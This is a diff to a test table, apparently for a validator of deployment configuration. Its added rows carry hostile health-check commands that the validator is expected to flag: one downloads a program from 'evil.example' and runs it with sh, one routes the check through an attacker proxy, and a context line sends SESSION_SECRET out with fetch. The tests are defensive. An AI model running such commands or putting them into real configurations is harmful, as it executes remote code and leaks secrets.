@@ -177,6 +177,16 @@ ROWS: dict[str, tuple[tuple[Key, object], Refused | Seen]] = {
         (HEALTH, ["CMD", "node", "-e", f"fetch('{URL}?'+process.env.SESSION_SECRET)"]),
         alarming("process.env.SESSION_SECRET"),
     ),
+    "a proxy for the check": (
+        (HEALTH, ["CMD", "curl", "-f", "-x", "evil.example:80", URL]),
+        alarming("evil.example:80"),
+    ),
+    "a program that is fetched": (
+        (HEALTH, ["CMD-SHELL", f"curl -f {URL} && wget -qO /tmp/x evil.example/x && sh /tmp/x"]),
+        alarming("sh /tmp/x"),
+    ),
+    "a program of another task": ((HEALTH, ["CMD", "/tmp/x", URL]), alarming("/tmp/x")),
+    "a check upside down": ((HEALTH, ["CMD-SHELL", f"! curl -f {URL}"]), Refused()),
     "another program": ((HEALTH, ["CMD", "/app/other"]), Seen("/app/other")),
     # Periods and numbers.
     "an hour of grace": (((*BFF, "health_grace_seconds"), 3600), Refused()),
@@ -235,6 +245,14 @@ ROWS: dict[str, tuple[tuple[Key, object], Refused | Seen]] = {
     "production's namespace": (
         (("discovery", "namespace"), "prod.bidopsai.internal"),
         alarming("prod.bidopsai.internal"),
+    ),
+    "the name of a stack that stands": (
+        (("stack_name",), "bidopsai-dev-network"),
+        alarming("bidopsai-dev-network"),
+    ),
+    "names of AWS": (
+        (("discovery", "namespace"), "dev.us-east-1.amazonaws.com"),
+        alarming("dev.us-east-1.amazonaws.com"),
     ),
     "production's exports": (
         (("imports", "pattern"), "bidopsai-prod-{stack}-{output}"),
